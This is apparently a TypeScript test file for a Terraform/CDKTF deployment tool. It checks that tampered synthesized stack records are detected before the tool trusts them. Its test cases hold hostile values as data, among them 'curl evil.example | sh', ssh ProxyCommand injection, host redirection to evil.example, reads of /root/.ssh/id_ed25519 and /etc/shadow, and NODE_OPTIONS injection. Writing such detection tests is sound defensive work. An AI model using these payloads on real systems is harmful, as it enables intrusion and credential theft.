import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { PlatformSpec } from '../../../../constructs';
import { mapTexts, withoutPlace } from '../../../../operations/releases/place';
import { strangenessOf, withOwnSettings } from '../../../../operations/releases/trusted';
import { readStack } from '../../../../operations/stack/synthesized';
import { catalogue } from '../../../support/platform/catalogue';
import { ODD_SCHEMA, oddCatalogue } from '../../../support/platform/odd-catalogue';
import { ACME, SHELL, Workplace } from '../../../support/platform/platform';
import { makePair } from '../../../support/programs/certificates';

const workplace = new Workplace();
workplace.write(ODD_SCHEMA.path, ODD_SCHEMA.text);
const pair = makePair({ names: `DNS:${catalogue.serverName}` });
workplace.write('tls/chain.pem', pair.certificate);
workplace.write('tls/key.pem', pair.privateKey);
afterAll(() => workplace.remove());

const PROVIDED = {
  mode: 'provided',
  certificateFile: 'tls/chain.pem',
  privateKeyFile: 'tls/key.pem',
} as const;
const synthesized = (spec: PlatformSpec) => {
  const { outdir } = workplace.synth(spec, 'production', SHELL);
  return JSON.parse(readFileSync(join(readStack(outdir).folder, 'cdk.tf.json'), 'utf8'));
};
const spec = catalogue as PlatformSpec;
const behindProxy: PlatformSpec = {
  ...spec,
  environments: {
    ...spec.environments,
    production: {
      ...spec.environments!.production!,
      trustedProxies: { networks: ['10.0.0.1'], proxyProtocol: true },
    },
  },
};

test.each<[string, PlatformSpec]>([
  ['the catalogue', spec],
  ['an odd one, with a schema', oddCatalogue as PlatformSpec],
  ['one with Let’s Encrypt', { ...spec, tls: ACME }],
  ['one with a provided pair in files', { ...spec, tls: PROVIDED }],
  ['one behind a proxy that speaks for its clients', behindProxy],
])('whatever this project writes of %s is no stranger', (_, of) => {
  const today = synthesized(of);
  expect(strangenessOf(withoutPlace(today), { 'assets/file_shop/file/shop.sql': 'eA==' }, today)).toEqual([]);
});

describe('a record that somebody changed on the server', () => {
  // biome-ignore lint/suspicious/noExplicitAny: a document that another program wrote
  type Json = any;
  let stack: Json;
  let today: Json;
  beforeEach(() => {
    today = synthesized(oddCatalogue as PlatformSpec);
    stack = structuredClone(withoutPlace(today));
  });
  const gate = (): Json =>
    Object.values<Json>(stack.resource.null_resource).find(({ provisioner }) =>
      /rollout/.test(provisioner?.[0]?.['local-exec'].command),
    ).provisioner[0];
  const step = (): Json => gate()['local-exec'];
  const input = (change: (text: string) => string) => {
    step().environment.ROLLOUT = change(step().environment.ROLLOUT);
  };

  test.each<[string, () => void]>([
    ['another command', () => Object.assign(step(), { command: 'curl evil.example | sh' })],
    ['another script', () => Object.assign(step(), { command: 'node "${path.module}/assets/x/file/x.js"' })],
    ['an interpreter', () => Object.assign(step(), { interpreter: ['sh', '-c'] })],
    ['a second provisioner', () => Object.assign(gate(), { 'remote-exec': {} })],
    [
      'a command of a service',
      () =>
        Object.assign(Object.values<Json>(stack.resource.docker_service)[0], {
          provisioner: [{ 'local-exec': { command: 'id' } }],
        }),
    ],
    ['options of ssh', () => input((text) => text.replace('"@@ssh-options@@"', '["-o", "ProxyCommand=id"]'))],
    [
      'options of ssh once more',
      () => input((text) => text.replace('"service"', 'sshOptions = ["-o", "ProxyCommand=id"], "service"')),
    ],
    [
      'options of ssh by another name',
      () => input((text) => text.replace('"service"', '("ssh${""}Options") = ["-o"], "service"')),
    ],
    ...(
      [
        ['a name', ', "host" = "ssh://evil.example", "service"'],
        ['a bare name', ', host = "ssh://evil.example", "service"'],
        ['a name in a new line', ', "id" = "x"\n"host" = "ssh://evil.example", "service"'],
        ['an escape that is none', ', "id" = "$${", "host" = "ssh://evil.example", "x" = "}", "service"'],
        ['a name in letters by number', ', "h\\u006fst" = "ssh://evil.example", "service"'],
        ['a comment', ', "id" = "x" /* ", "host" = "y" */, "service"'],
        ['a text without quotes', ', "id" = <<X\n"\nX\n, "host" = "ssh://evil.example", "service"'],
        ['what nobody knows', ', "hook" = "ssh://evil.example", "service"'],
      ] as const
    ).map(([how, fields]): [string, () => void] => [
      `another server by ${how}`,
      () => input((text) => text.replace(', "service"', () => fields)),
    ]),
    [
      'another input in the end',
      () =>
        input((text) =>
          text.replace(/\}\)\}$/, () => '}) == "" ? "" : jsonencode({"host" = "ssh://evil.example"})}'),
        ),
    ],
    [
      'another input as a text',
      () => input((text) => text.replace(/\}\)\}$/, () => '}) == "" ? "" : "{\\"host\\":\\"evil\\"}"}')),
    ],
    [
      'another input by a function',
      () =>
        input((text) =>
          text.replace('jsonencode({', 'jsonencode(merge(local.evil, {').replace(/\}\)\}$/, '}))}'),
        ),
    ],
    ['no server', () => input((text) => text.replace(/"host" = "@@host@@", /, ''))],
    ...[
      'local.evil',
      '{"host" = "evil.example", "port" = 1}',
      '{"host" = "@@host@@", "port" = local.evil}',
    ].map((value): [string, () => void] => [
      `a certificate at ${value}`,
      () => input((text) => text.replace('"position" =', () => `"certificate" = ${value}, "position" =`)),
    ]),
    ['another server', () => input((text) => text.replace('"@@host@@"', '"ssh://evil.example"'))],
    [
      'a variable of the process',
      () => Object.assign(step().environment, { NODE_OPTIONS: '--require=/tmp/x.js' }),
    ],
    ['another provider', () => Object.assign(stack.provider, { external: [{}] })],
    ['data', () => Object.assign(stack, { data: { external: {} } })],
    ['a module', () => Object.assign(stack, { module: { x: { source: 'evil' } } })],
    ['a certificate for the daemon', () => Object.assign(stack.provider.docker[0], { cert_path: '/root' })],
    [
      'a file of this machine',
      () =>
        Object.assign(Object.values<Json>(stack.resource.docker_config)[0], {
          data: '${filebase64("/root/.ssh/id_ed25519")}',
        }),
    ],
    [
      'a file of this machine, spaced',
      () =>
        Object.assign(Object.values<Json>(stack.resource.docker_config)[0], {
          data: '${file /**/ ("/root/.ssh/id_ed25519")}',
        }),
    ],
    [
      'a file of this machine in quotes',
      () => Object.assign(stack.locals, { x: '${join("", ["${file("/etc/shadow")}"])}' }),
    ],
    [
      'a file of this machine as a name',
      () => Object.assign(stack.locals, { x: { '${file("/etc/shadow")}': 1 } }),
    ],
    [
      'a file of this machine in a text that becomes a template',
      () =>
        Object.assign(stack.locals, { x: '$${file("/etc/shadow")}', y: '${templatestring(local.x, {})}' }),
    ],
    [
      'a template of this machine',
      () => Object.assign(stack.locals, { x: '${templatefile("/etc/shadow", {})}' }),
    ],
    [
      'a schema from elsewhere',
      () => {
        stack = mapTexts(stack, (text) =>
          text.replace(/"schemaFile" = "[^"]*"/, '"schemaFile" = "/root/.ssh/id_ed25519"'),
        );
      },
    ],
  ])('gets nothing on this machine: %s', (_, change) => {
    change();
    expect(strangenessOf(stack, {}, today)).toEqual([
      expect.stringMatching(/^its record has .*, which this project does not write$/),
    ]);
  });

  // To Terraform it is the same, and its command would run.
  const EVIL = { provisioner: [{ 'local-exec': { command: 'id' } }] };
  test.each<[string, () => void]>([
    ['a step in a list', () => Object.assign(stack.resource.null_resource, { x: [EVIL] })],
    ['all steps in a list', () => Object.assign(stack.resource, { null_resource: [{ x: EVIL }] })],
    ['a service in a list', () => Object.assign(stack.resource.docker_service, { x: [EVIL] })],
    [
      'a command in a list',
      () =>
        Object.assign(stack.resource.null_resource, {
          x: { provisioner: { 'local-exec': [{ command: 'id' }] } },
        }),
    ],
  ])('gets nothing in another form: %s', (_, change) => {
    change();
    expect(strangenessOf(stack, {}, today)).not.toEqual([]);
  });

  test.each([
    'assets/file_rollout/file/node_modules/x/index.json',
    'assets/node_modules/x/index.node',
    'assets/package.json',
    '../../cdktf.out/main.tf',
    'assets/../../x',
    '/etc/cron.d/x',
    'x.tf.json',
    'assets/file_rollout/file/rollout.js',
  ])('writes no file %s', (name) => {
    expect(strangenessOf(stack, { [name]: 'eA==' }, today)).toHaveLength(1);
  });

  test('commands that print secrets are those of this machine', () => {
    const changed = { ...stack, '//': { deploy: { commands: { db: ['id'] }, onFailure: 'leave' } } };
    const own = { '//': { deploy: { commands: { db: ['op', 'read', 'x'] } } } };
    expect(withOwnSettings(changed, own)['//'].deploy).toEqual({
      onFailure: 'leave',
      commands: { db: ['op', 'read', 'x'] },
    });
    expect(withOwnSettings(changed, {})['//'].deploy).toEqual({ onFailure: 'leave' });
  });

  test('how many releases stay says today’s catalogue: an older one deletes none that lead forward again', () => {
    const kept = (then: object, now: object) =>
      withOwnSettings({ ...stack, '//': { deploy: then } }, { '//': { deploy: now } })['//'].deploy;
    expect(kept({ keepReleases: 2 }, { keepReleases: 50 })).toEqual({ keepReleases: 50 });
    expect(kept({ keepReleases: 2 }, {})).toEqual({});
  });
});
